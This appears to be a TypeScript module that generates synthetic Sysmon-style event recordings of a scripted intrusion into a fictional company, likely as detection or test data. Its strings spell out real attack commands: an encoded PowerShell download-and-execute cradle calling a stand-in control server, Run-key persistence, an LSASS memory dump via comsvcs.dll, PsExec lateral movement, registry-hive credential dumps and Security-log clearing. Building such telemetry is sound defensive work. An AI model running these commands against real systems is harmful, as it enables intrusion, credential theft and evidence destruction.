import { Buffer } from 'node:buffer';
import { applicationServer, domain, fileServer, hoffmann, intruders, system, weber, workstation } from './cast.ts';
import { at } from './clock.ts';
import { kernel, programs, renamed, type Program } from './programs.ts';
import { Recording } from './recording.ts';
import type { Process } from './sysmon-events.ts';

const cmd = 'C:\\Windows\\System32\\cmd.exe';
const dropped = 'C:\\Users\\Public\\Libraries\\';
const implant: Program = {
  ...kernel,
  path: `${dropped}mscfg.dll`,
  description: 'Configuration Helper',
  fileVersion: '1.0.0.4',
};

/**
 * A morning at Meridian. A clerk opens a mail, the intruders take what her workstation remembers of an administrator,
 * and walk with PsExec to the file server and on to the application server.
 */
export function intrusion(): readonly Recording[] {
  const desk = new Recording(workstation, weber, 6120);
  const files = new Recording(fileServer, hoffmann, 4788);
  const application = new Recording(applicationServer, hoffmann, 5216);

  const implanted = openTheMail(desk);
  lookAround(desk, implanted);
  takeCredentials(desk, implanted);
  hop(desk, files, { by: implanted, startMs: at('10:20:12'), service: 'PSEXESVC', port: 50122 });
  emptyTheFileServer(files);
  hop(desk, files, { by: implanted, startMs: at('10:50:12'), service: 'mgmtsvc', port: 50177 });
  hop(desk, application, { by: implanted, startMs: at('11:10:12'), service: 'PSEXESVC', port: 50240 });
  hop(desk, application, { by: implanted, startMs: at('11:30:12'), service: 'psexesvc', port: 50291 });
  hop(desk, application, { by: implanted, startMs: at('11:40:12'), service: 'winhlp', port: 50308 });
  comeBackByTheFrontDoor(application);
  return [desk, files, application];
}

/** 09:12. The attachment starts PowerShell, which fetches a library, starts it and makes it start again. */
function openTheMail(desk: Recording): Process {
  const script = `IEX (New-Object Net.WebClient).DownloadString('http://${intruders.controlServer}/cfg'); Start-Sleep 3`;
  const encoded = Buffer.from(script, 'utf16le').toString('base64');
  const word = desk.start(
    at('09:12:04'),
    desk.running.explorer,
    programs.word,
    `"${programs.word.path}" /n "C:\\Users\\j.weber\\Downloads\\Invoice 2291.docm"`,
  );
  const powershell = desk.start(
    at('09:12:31'),
    word,
    programs.powershell,
    `powershell.exe -NoP -W Hidden -Enc ${encoded}`,
  );
  desk.connects(at('09:12:34'), powershell, {
    direction: 'out',
    address: intruders.controlServer,
    port: 80,
    ownPort: 49811,
  });
  desk.writes(at('09:12:39'), powershell, implant.path);

  const host = desk.start(
    at('09:12:42'),
    powershell,
    programs.rundll32,
    `"${programs.rundll32.path}" ${implant.path},Start`,
  );
  desk.loads(at('09:12:43'), host, implant, null);
  desk.connects(at('09:12:45'), host, {
    direction: 'out',
    address: intruders.controlServer,
    port: 443,
    ownPort: 49815,
  });
  const run = `HKU\\${weber.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\MsCfgHelper`;
  desk.sets(at('09:12:51'), host, run, `rundll32.exe ${implant.path},Start`);
  return host;
}

/** 09:31. Who is she, who rules here, and what is near? */
function lookAround(desk: Recording, implanted: Process): void {
  const shell = desk.start(at('09:31:10'), implanted, programs.cmd, `${cmd} /Q`);
  desk.start(at('09:31:14'), shell, programs.whoami, 'whoami  /groups');
  desk.start(at('09:31:27'), shell, programs.net, 'net  group "Domain Admins" /domain');
  desk.start(at('09:31:52'), shell, programs.nltest, `nltest  /dclist:${domain.dns}`);
}

/** 09:47. An administrator was logged on here this morning; her secrets are still in the memory of LSASS. */
function takeCredentials(desk: Recording, implanted: Process): void {
  const dump = `${dropped}lsass.dmp`;
  const elevated = desk.start(at('09:47:02'), implanted, programs.cmd, `${cmd} /Q`, system);
  const command = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 812 ${dump} full`;
  const dumper = desk.start(at('09:47:20'), elevated, programs.rundll32, command);
  desk.writes(at('09:47:22'), dumper, dump);
  desk.writes(at('09:52:40'), implanted, programs.psexec.path);
}

interface Hop {
  readonly by: Process;
  readonly startMs: number;
  /** What the service is called: PsExec's own name, another (-r), or a clone's spelling of it. */
  readonly service: string;
  readonly port: number;
}

/** PsExec to another host: the client here; there a logon, a file, a service, three pipes and a shell that runs as SYSTEM. */
function hop(desk: Recording, target: Recording, { by, startMs, service, port }: Hop): void {
  const after = (seconds: number) => startMs + seconds * 1000;
  const from = { address: workstation.address, port };
  const rename = service.toUpperCase() === 'PSEXESVC' ? '' : ` -r ${service}`;
  const client = desk.start(
    after(0),
    by,
    programs.psexec,
    `PsExec64.exe  -accepteula \\\\${target.host.name}${rename} -s cmd.exe`,
    { ...hoffmann, home: dropped },
  );
  desk.connects(after(1), client, {
    direction: 'out',
    address: target.host.address,
    hostName: target.host.computer,
    port: 445,
    ownPort: port,
  });

  const image = renamed(programs.psexecService, `C:\\Windows\\${service}.exe`);
  const share = {
    user: hoffmann,
    from,
    share: 'ADMIN$',
    localPath: '\\??\\C:\\Windows',
    file: `${service}.exe`,
    access: 'write',
  } as const;
  target.logsOn(after(1), { user: hoffmann, type: 3, from: { ...from, workstation: '-' } });
  target.opensShare(after(2), share);
  target.writes(after(2), target.running.kernel, image.path);
  target.installs(
    after(3),
    {
      name: service,
      imagePath: `%SystemRoot%\\${service}.exe`,
      type: 'user mode service',
      start: 'demand start',
      account: 'LocalSystem',
    },
    hoffmann,
  );
  const running = target.start(after(4), target.running.services, image, image.path);
  for (const stream of ['stdin', 'stdout', 'stderr']) {
    const file = `${service}-${workstation.name}-${client.pid}-${stream}`;
    target.opensShare(after(5), { user: hoffmann, from, share: 'IPC$', localPath: '', file, access: 'pipe' });
  }
  const shell = target.start(after(6), running, programs.cmd, '"cmd.exe"');
  target.start(after(17), shell, programs.whoami, 'whoami');
  target.start(after(29), shell, programs.net, 'net  localgroup administrators');
}

/** 10:31. The hives with the local secrets, a copy of the implant that starts with the machine, and the traces. */
function emptyTheFileServer(files: Recording): void {
  const shell = files.start(
    at('10:31:02'),
    files.running.services,
    programs.cmd,
    `${cmd} /c C:\\Users\\Public\\Libraries\\go.cmd`,
    system,
  );
  for (const [time, hive] of [
    ['10:31:03', 'SAM'],
    ['10:31:05', 'SYSTEM'],
    ['10:31:08', 'SECURITY'],
  ] as const) {
    const saved = files.start(
      at(time),
      shell,
      programs.reg,
      `reg  save HKLM\\${hive} ${dropped}${hive.toLowerCase()}.sav /y`,
    );
    files.writes(at(time), saved, `${dropped}${hive.toLowerCase()}.sav`);
  }
  files.writes(at('10:31:20'), files.running.kernel, implant.path);
  const run = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\MsCfgHelper';
  const setter = files.start(
    at('10:31:31'),
    shell,
    programs.reg,
    `reg  add ${run.slice(0, run.lastIndexOf('\\'))} /v MsCfgHelper /d "rundll32.exe ${implant.path},Start" /f`,
  );
  files.sets(at('10:31:31'), setter, run, `rundll32.exe ${implant.path},Start`);
  files.start(at('10:44:50'), shell, programs.wevtutil, 'wevtutil  cl Security');
}

/** 11:52. Remote desktop of the application server faces the internet, and now they have a password. */
function comeBackByTheFrontDoor(application: Recording): void {
  const session = { ...hoffmann, logonId: '0x8f10c2' };
  const from = { address: intruders.exit, port: 58820, workstation: applicationServer.name };
  application.connects(at('11:52:07'), application.running.svchost, {
    direction: 'in',
    address: intruders.exit,
    port: 58820,
    ownPort: 3389,
  });
  application.logsOn(at('11:52:10'), { user: session, type: 10, from });
  const host = application.start(
    at('11:53:02'),
    application.running.explorer,
    programs.rundll32,
    `rundll32.exe ${implant.path},Start`,
    session,
  );
  application.loads(at('11:53:03'), host, implant, null);
  application.connects(at('11:53:05'), host, {
    direction: 'out',
    address: intruders.controlServer,
    port: 443,
    ownPort: 51744,
  });
}
